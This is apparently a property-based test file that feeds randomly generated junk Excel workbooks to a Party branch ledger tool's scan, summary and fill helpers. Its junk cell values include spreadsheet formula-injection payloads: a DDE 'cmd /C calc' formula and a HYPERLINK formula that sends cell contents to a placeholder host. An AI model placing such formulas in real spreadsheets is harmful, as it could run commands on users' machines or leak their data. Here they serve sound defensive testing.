import fc from 'fast-check';
import ExcelJS from 'exceljs';
import { ExcelJsWorkbook } from '../../src/adapters/exceljs/excelJsWorkbook';
import { withCompactValidations } from '../../src/adapters/exceljs/validationRanges';
import { clearScanOutput, runScan } from '../../src/app/scanWorkbook';
import { writeSummary } from '../../src/app/summarizeWorkbook';
import { fillDues, recordMeeting, syncRoster } from '../../src/app/fillHelpers';
import { calendarDate } from '../../src/core/calendar/calendarDate';
import { ROSTER_HEADER } from '../support/ledgerBuilder';
import { generateTemplate } from '../../src/app/generateTemplate';
import { generateSampleLedger } from '../../src/core/sample/sampleLedger';
import { TEMPLATE_SHEET_ORDER } from '../../src/core/schema/sheetSchemas';

/**
 * Junk workbooks (every cell type, #REF! and other errors, huge strings, formulas, merged cells,
 * hidden sheets, real ledger headers among the junk) through the scan, the summary and every
 * filling helper: never a throw; never a changed value, formula or format outside the cells a
 * helper fills (and those were blank); clearing the highlights restores every sheet exactly.
 */
const TODAY = calendarDate(2025, 12, 31);
const H = { today: TODAY, lang: 'zh-CN' as const };

const HEADERS: readonly (readonly string[])[] = [
  ROSTER_HEADER,
  ['姓名', '类别', '基数', '月交额', '1月', '2月', '3月', '4月', '5月', '6月', '7月', '8月', '9月', '10月', '11月', '12月', '备注'],
  ['日期', '类型', '主题', '主持人', '记录人', '应到人数', '实到人数', '缺席人员', '补学情况', '内容摘要'],
  ['姓名', '日期', '学时', '内容'],
  ['谈话日期', '谈话人', '谈话对象', '内容'],
  ['項目', '金額', 'Name', 'Date'],
];
const SHEET_NAMES = ['党员名册', '党费收缴台账', '会议记录', '学习培训记录', '花名册', 'Sheet1', "O'Brien's", '检查结果', '修改记录', '年度汇总', '设置', '党费 2025'];

type Junk = ExcelJS.CellValue;
const junkCell: fc.Arbitrary<Junk> = fc.oneof(
  { arbitrary: fc.constant(null), weight: 6 },
  { arbitrary: fc.constantFrom('', ' ', '张三', '李四', '王五', '在职', '预备党员', '支部委员会', '合计', '以下空白', '2025-03-05', '2025年3月', '20学时', '补交270', '√', '=cmd|\' /C calc\'!A0', '+1', '-2', '@SUM(1)', '=HYPERLINK("http://x.example/?q="&G4,"y")'), weight: 6 },
  { arbitrary: fc.string({ maxLength: 12 }), weight: 2 },
  { arbitrary: fc.integer({ min: 0, max: 40 }).map((n) => 'x'.repeat(2000 * n)), weight: 1 },
  { arbitrary: fc.double({ min: -1e9, max: 1e9, noNaN: true }), weight: 3 },
  { arbitrary: fc.integer({ min: 36000, max: 47000 }), weight: 2 },
  { arbitrary: fc.boolean(), weight: 1 },
  { arbitrary: fc.date({ min: new Date(Date.UTC(1990, 0, 1)), max: new Date(Date.UTC(2030, 0, 1)), noInvalidDate: true }), weight: 2 },
  { arbitrary: fc.constantFrom('#REF!', '#N/A', '#DIV/0!', '#VALUE!', '#NAME?').map((e) => ({ error: e }) as ExcelJS.CellErrorValue), weight: 2 },
  { arbitrary: fc.tuple(fc.constantFrom('A1+1', 'SUM(A1:A3)', 'IF(A1="","",1)', '#REF!+1', 'TODAY()'), fc.oneof(fc.constant(''), fc.integer(), fc.constant('x'))).map(([formula, result]) => ({ formula, result }) as ExcelJS.CellFormulaValue), weight: 2 },
  { arbitrary: fc.constant({ richText: [{ text: '张' }, { text: '三', font: { bold: true } }] } as ExcelJS.CellRichTextValue), weight: 1 },
);

interface JunkSheet {
  name: string;
  hidden: boolean;
  title: boolean;
  header: number;
  rows: Junk[][];
  merges: [number, number, number, number][];
  styled: boolean;
}

const junkSheet: fc.Arbitrary<JunkSheet> = fc.record({
  name: fc.constantFrom(...SHEET_NAMES),
  hidden: fc.boolean(),
  title: fc.boolean(),
  header: fc.integer({ min: -1, max: HEADERS.length - 1 }),
  rows: fc.array(fc.array(junkCell, { maxLength: 16 }), { maxLength: 14 }),
  merges: fc.array(fc.tuple(fc.integer({ min: 1, max: 16 }), fc.integer({ min: 1, max: 8 }), fc.integer({ min: 0, max: 2 }), fc.integer({ min: 0, max: 3 })), { maxLength: 3 }),
  styled: fc.boolean(),
});

function build(sheets: readonly JunkSheet[]): ExcelJS.Workbook {
  const wb = new ExcelJS.Workbook();
  const used = new Set<string>();
  for (const s of sheets) {
    let name = s.name;
    for (let i = 2; used.has(name.toLowerCase()); i++) name = `${s.name} (${i})`;
    used.add(name.toLowerCase());
    const ws = wb.addWorksheet(name, { state: s.hidden ? 'hidden' : 'visible' });
    let r = 1;
    if (s.title) ws.getCell(r++, 1).value = '第一党支部2025年度台账';
    if (s.header >= 0) HEADERS[s.header].forEach((h, c) => (ws.getCell(r, c + 1).value = h));
    if (s.header >= 0) r++;
    for (const row of s.rows) {
      row.forEach((v, c) => {
        if (v === null) return;
        ws.getCell(r, c + 1).value = v;
      });
      r++;
    }
    if (s.styled) {
      ws.getCell(2, 2).fill = { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFFFFF00' } };
      ws.getCell(3, 3).numFmt = '0.00';
      ws.addConditionalFormatting({ ref: 'A1:C3', rules: [{ type: 'expression', priority: 1, formulae: ['A1>1'], style: { font: { bold: true } } }] });
    }
    const taken: boolean[][] = [];
    for (const [top, left, down, right] of s.merges) {
      let free = true;
      for (let y = top; y <= top + down; y++) for (let x = left; x <= left + right; x++) if (taken[y]?.[x]) free = false;
      if (!free || (down === 0 && right === 0)) continue;
      for (let y = top; y <= top + down; y++) for (let x = left; x <= left + right; x++) (taken[y] ??= [])[x] = true;
      ws.mergeCells(top, left, top + down, left + right);
    }
  }
  return wb;
}

/** Written as the product writes (drop-downs as ranges) and read back. */
async function load(wb: ExcelJS.Workbook): Promise<ExcelJS.Workbook> {
  const back = new ExcelJS.Workbook();
  await back.xlsx.load((await withCompactValidations(wb, () => wb.xlsx.writeBuffer())) as ArrayBuffer);
  return back;
}

/** Every cell of every sheet as a user sees it: value (formulas included) and format. */
function snapshot(wb: ExcelJS.Workbook, names?: readonly string[]): Map<string, string> {
  const cells = new Map<string, string>();
  for (const ws of wb.worksheets) {
    if (names && !names.includes(ws.name)) continue;
    // Cells share style objects: each is written out once per snapshot (nothing changes during one).
    const styles = new Map<object, string>();
    const styleText = (style: object | undefined): string => {
      if (!style) return '{}';
      let text = styles.get(style);
      if (text === undefined) styles.set(style, (text = JSON.stringify(style)));
      return text;
    };
    ws.eachRow({ includeEmpty: true }, (row, r) => row.eachCell({ includeEmpty: true }, (cell, c) => {
      cells.set(`${ws.name}!${r},${c}`, `{"v":${JSON.stringify(cell.value ?? null)},"s":${styleText(cell.style)}}`);
    }));
    cells.set(`${ws.name}!cf`, JSON.stringify((ws as unknown as { conditionalFormattings: unknown[] }).conditionalFormattings ?? []));
    cells.set(`${ws.name}!state`, String(ws.state));
  }
  return cells;
}

/**
 * What differs between two snapshots, as "key: before → after" lines (empty when they agree). One
 * comparison of strings per cell: a jest matcher per cell, or toEqual over the maps, costs most of
 * the suite's time and says less when it fails.
 */
function differences(before: Map<string, string>, after: Map<string, string>, skip: (key: string) => boolean = () => false): string[] {
  const out: string[] = [];
  for (const [key, was] of before) if (!skip(key) && after.get(key) !== was) out.push(`${key}: ${was} → ${after.get(key) ?? '(gone)'}`);
  for (const key of after.keys()) if (!skip(key) && !before.has(key)) out.push(`${key}: (none) → ${after.get(key)}`);
  return out;
}

/** The cells whose value changed; a cell that changed its format or held something before is a violation. */
function changedCells(before: Map<string, string>, after: Map<string, string>): { written: string[]; violations: string[] } {
  const written: string[] = [];
  const violations: string[] = [];
  for (const [key, was] of before) {
    const now = after.get(key);
    if (now === undefined || now === was) continue;
    if (key.endsWith('!cf') || key.endsWith('!state')) {
      violations.push(key);
      continue;
    }
    const a = JSON.parse(was) as { v: unknown; s: unknown };
    // Blank as the helpers define it (src/core/fill/sheetRows.ts): empty, or spaces a person cannot see.
    const blank = a.v === null || (typeof a.v === 'string' && a.v.trim() === '');
    if (!blank) violations.push(`${key}: ${was} → ${now}`);
    else written.push(key);
  }
  return { written, violations };
}

/** A real ledger (our template, six members, half a year filled in) with junk written over it: the helpers have work to do. */
let ledgerBytes: ArrayBuffer;
beforeAll(async () => {
  const asOf = calendarDate(2025, 6, 30);
  const sample = generateSampleLedger({ members: 5, year: 2025, asOf, plantProblems: true });
  const book = new ExcelJsWorkbook(new ExcelJS.Workbook());
  const { settings, ...data } = sample.data;
  await generateTemplate(book, { settings, lang: 'zh-CN', sheets: TEMPLATE_SHEET_ORDER.filter((k) => k !== 'development' && k !== 'obligation'), data, today: asOf }, 'rename');
  ledgerBytes = (await book.workbook.xlsx.writeBuffer()) as ArrayBuffer;
}, 60_000);

interface Recipe {
  readonly ledger: boolean;
  readonly sheets: readonly JunkSheet[];
  readonly overwrite: readonly { sheet: number; row: number; col: number; value: Junk }[];
  readonly hide: readonly number[];
}

const recipeArb: fc.Arbitrary<Recipe> = fc.record({
  ledger: fc.boolean(),
  sheets: fc.array(junkSheet, { minLength: 1, maxLength: 3 }),
  overwrite: fc.array(fc.record({ sheet: fc.nat(9), row: fc.integer({ min: 1, max: 14 }), col: fc.integer({ min: 1, max: 20 }), value: junkCell }), { maxLength: 25 }),
  hide: fc.array(fc.nat(9), { maxLength: 2 }),
});

async function workbookFor(recipe: Recipe): Promise<ExcelJS.Workbook> {
  if (!recipe.ledger) return load(build(recipe.sheets));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(ledgerBytes);
  for (const o of recipe.overwrite) {
    const ws = wb.worksheets[o.sheet % wb.worksheets.length];
    if (!ws.getCell(o.row, o.col).isMerged) ws.getCell(o.row, o.col).value = o.value;
  }
  for (const h of recipe.hide) wb.worksheets[h % wb.worksheets.length].state = 'hidden';
  // A junk sheet or two beside the ledger.
  const junk = build(recipe.sheets.slice(0, 1));
  for (const js of junk.worksheets) {
    if (wb.worksheets.some((w) => w.name.toLowerCase() === js.name.toLowerCase())) continue;
    const ws = wb.addWorksheet(js.name, { state: js.state });
    js.eachRow((row, r) => row.eachCell((cell, c) => {
      if (!cell.isMerged) ws.getCell(r, c).value = cell.value;
    }));
  }
  return load(wb);
}

const RUNS = 25;

describe('junk workbooks', () => {
  it('scan: never throws, never changes a cell of the user, and clearing restores every sheet exactly', async () => {
    await fc.assert(
      fc.asyncProperty(recipeArb, async (recipe) => {
        const wb = await workbookFor(recipe);
        const names = wb.worksheets.map((w) => w.name);
        const before = snapshot(wb);
        const book = new ExcelJsWorkbook(wb);
        await runScan(book, { today: TODAY, lang: 'zh-CN', write: true });
        // Highlights are conditional formats: every value and cell format is as it was.
        const scanned = snapshot(wb, names);
        expect(differences(before, scanned, (key) => key.endsWith('!cf'))).toEqual([]);
        await clearScanOutput(book);
        const cleared = await load(wb);
        expect(differences(before, snapshot(cleared))).toEqual([]);
        expect(cleared.worksheets.map((w) => w.name)).toEqual(names);
      }),
      { numRuns: RUNS },
    );
  }, 300_000);

  it('summary: never throws, into the workbook or a new one, and never changes a cell of the user', async () => {
    await fc.assert(
      fc.asyncProperty(recipeArb, fc.boolean(), async (recipe, into) => {
        const wb = await workbookFor(recipe);
        const before = snapshot(wb);
        const book = new ExcelJsWorkbook(wb);
        const target = into ? book : new ExcelJsWorkbook(new ExcelJS.Workbook());
        await writeSummary(book, { today: TODAY, lang: 'zh-CN' }, target);
        const after = snapshot(wb, [...new Set([...before.keys()].map((k) => k.split('!')[0]))]);
        expect(differences(before, after)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  }, 300_000);

  it('fill-dues, sync-roster, record-meeting: never throw; write only blank cells, and fill-dues only the cells it lists', async () => {
    const meeting = fc.record({
      date: fc.option(fc.constantFrom(calendarDate(2025, 3, 5), calendarDate(2025, 11, 30), calendarDate(2026, 1, 2)), { nil: null }),
      types: fc.subarray(['支部党员大会', '支部委员会', '党小组会', '党课', '主题党日'], { minLength: 1 }),
      topic: fc.constantFrom('', '学习二十大精神', '=cmd|\' /C calc\'!A0'),
      host: fc.constantFrom('', '张三', '李四'),
      recorder: fc.constantFrom('', '王五'),
      absentees: fc.constantFrom([], [{ name: '李四', reason: '病假' }]),
      makeUp: fc.constant([]),
      summary: fc.constantFrom('', '讨论'),
      addStudyHours: fc.boolean(),
      hours: fc.constantFrom(undefined, 2),
    });
    await fc.assert(
      fc.asyncProperty(recipeArb, fc.integer({ min: 1, max: 12 }), fc.constantFrom(2025, 2025, 2025, 2026), meeting, async (recipe, month, year, input) => {
        const wb = await workbookFor(recipe);
        const before = snapshot(wb);
        const userSheets = wb.worksheets.map((w) => w.name);
        const book = new ExcelJsWorkbook(wb);

        const { preview } = await fillDues(book, year, month, H);
        let after = snapshot(wb, userSheets);
        let change = changedCells(before, after);
        expect(change.violations).toEqual([]);
        const listed = new Set(preview.fills.map((f) => `${f.sheet}!${f.row},${f.col}`));
        expect(change.written.filter((key) => !listed.has(key))).toEqual([]);

        const base = after;
        await syncRoster(book, H);
        after = snapshot(wb, userSheets);
        change = changedCells(base, after);
        expect(change.violations).toEqual([]);

        const base2 = after;
        await recordMeeting(book, input, H);
        change = changedCells(base2, snapshot(wb, userSheets));
        expect(change.violations).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  }, 300_000);
});
